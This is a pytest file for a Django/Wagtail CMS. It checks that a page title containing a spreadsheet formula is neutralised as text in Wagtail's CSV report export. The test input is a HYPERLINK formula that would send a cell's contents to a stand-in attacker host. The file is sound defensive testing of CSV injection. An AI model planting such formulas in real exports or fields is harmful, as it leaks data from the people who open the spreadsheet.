"""What somebody typed runs in nobody's spreadsheet."""

from __future__ import annotations

import csv
from collections.abc import Callable

import pytest
from django.contrib.auth.models import User
from django.test import Client
from django.urls import reverse
from wagtail.admin.views.mixins import SpreadsheetExportMixin

from cms.cities.models import Role
from cms.guides.models import ArticlePage
from tests.cms.factories import make_city, make_page, make_user

pytestmark = pytest.mark.django_db
TITLE = '=HYPERLINK("https://evil.example.org/?"&A2,"Open")'


def test_a_title_that_is_a_formula_is_text_in_the_reports_that_wagtail_saves(as_user: Callable[[User], Client]) -> None:
    city = make_city()
    make_page(ArticlePage, city, title=TITLE)
    client = as_user(make_user(city, Role.ADMINISTRATOR))
    answer = client.get(reverse("wagtailadmin_reports:aging_pages"), {"export": "csv"})
    rows = list(csv.DictReader(answer.getvalue().decode().splitlines()))
    assert "'" + TITLE in {row["Title"] for row in rows}
    assert not any(cell.startswith("=") for row in rows for cell in row.values())


def test_wagtail_still_writes_its_rows_where_they_are_guarded() -> None:
    assert "write_csv_row" in vars(SpreadsheetExportMixin)
